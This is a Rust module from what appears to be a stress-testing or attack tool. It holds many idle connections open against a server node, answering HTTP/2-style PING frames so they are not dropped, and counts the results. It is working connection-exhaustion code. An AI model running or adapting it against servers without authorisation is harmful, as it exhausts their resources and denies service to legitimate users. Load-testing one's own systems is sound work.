//! Thousands of connections that are opened and kept: they greet, answer pings and ask nothing.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::sleep;

use super::Attack;
use super::dial::Line;
use super::frames::{ACK, PING, frame};

/// Before a connection that was closed is opened again.
const PAUSE: Duration = Duration::from_secs(1);
/// Largest frame that a node sends to somebody who asks nothing.
const FRAME_BYTES_MAX: usize = 16 * 1024;

/// Holds one connection for as long as the attack lasts.
pub async fn run(attack: &Attack, node: SocketAddr, number: usize) {
    loop {
        attack.opening.turn().await;
        attack.tally.one("connections tried");
        if let Ok(line) = attack.dialler.greeted(node, number).await {
            attack.tally.one("connections with TLS");
            let _open = attack.tally.open();
            answer_pings(line).await;
            attack.tally.one("connections that a node closed");
        } else {
            attack.tally.one("connections refused");
        }
        sleep(PAUSE).await;
    }
}

/// Until the node closes it.
async fn answer_pings(mut line: Line) {
    let mut head = [0; 9];
    while line.read_exact(&mut head).await.is_ok() {
        let [a, b, c, kind, flags, ..] = head;
        let length = usize::try_from(u32::from_be_bytes([0, a, b, c])).unwrap_or(usize::MAX);
        if length > FRAME_BYTES_MAX {
            return;
        }
        let mut payload = vec![0; length];
        if line.read_exact(&mut payload).await.is_err() {
            return;
        }
        let answer = frame(PING, ACK, 0, &payload);
        let is_asked = kind == PING && flags & ACK == 0;
        if is_asked && (line.write_all(&answer).await.is_err() || line.flush().await.is_err()) {
            return;
        }
    }
}
